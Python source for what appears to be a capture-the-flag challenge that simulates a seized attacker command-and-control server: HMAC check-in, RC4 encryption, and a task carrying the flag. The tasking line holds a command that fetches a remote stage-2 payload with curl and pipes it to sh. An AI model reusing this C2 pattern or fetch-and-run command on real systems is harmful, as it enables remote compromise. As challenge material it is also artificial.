#!/usr/bin/env python3
"""The attacker's (seized) C2 server for the IR-4410 implant. Implants prove
knowledge of the shared secret with an HMAC over the server nonce and their
host id, then talk RC4-drop256 under SHA-256(secret || nonce || id). The
tasking queued for fin-ws-12 carries the planted flag as the stage-2 key."""
import hashlib
import hmac
import os
import socketserver
import struct

FLAG = open("/srv/flag.txt").read().strip()
SECRET = bytes.fromhex("49b70aebc5144c32a83dcfb86682d7389d174aaf876512923b893c01f0b48a9e")
TARGET = hashlib.sha256(b"fin-ws-12:d98ad844d7381fe1c5f85066abba2941").hexdigest()[:16].encode()


class RC4:
    def __init__(self, key):
        s = list(range(256))
        j = 0
        for i in range(256):
            j = (j + s[i] + key[i % len(key)]) & 255
            s[i], s[j] = s[j], s[i]
        self.s, self.i, self.j = s, 0, 0
        self.crypt(bytes(256))

    def crypt(self, data):
        s, out = self.s, bytearray()
        for c in data:
            self.i = (self.i + 1) & 255
            self.j = (self.j + s[self.i]) & 255
            s[self.i], s[self.j] = s[self.j], s[self.i]
            out.append(c ^ s[(s[self.i] + s[self.j]) & 255])
        return bytes(out)


def recvn(sock, n):
    buf = b""
    while len(buf) < n:
        d = sock.recv(n - len(buf))
        if not d:
            raise ConnectionError
        buf += d
    return buf


class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        s = self.request
        s.settimeout(20)
        nonce = os.urandom(16)
        s.sendall(b"C2v3" + nonce)
        try:
            hello = recvn(s, 48)
        except (ConnectionError, OSError):
            return
        hid, mac = hello[:16], hello[16:]
        if not hmac.compare_digest(hmac.new(SECRET, nonce + hid, hashlib.sha256).digest(), mac):
            return
        key = hashlib.sha256(SECRET + nonce + hid).digest()
        rx, tx = RC4(key), RC4(key)
        try:
            req = rx.crypt(recvn(s, 3))
        except (ConnectionError, OSError):
            return
        if req[:1] != b"T":
            return
        if hid == TARGET:
            task = "run:curl -s http://10.66.0.3/s2 | STAGE2_KEY=%s sh" % FLAG
        else:
            task = "run:true"
        body = task.encode()
        s.sendall(tx.crypt(b"T" + struct.pack(">H", len(body)) + body))


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


if __name__ == "__main__":
    Server(("0.0.0.0", 7443), Handler).serve_forever()
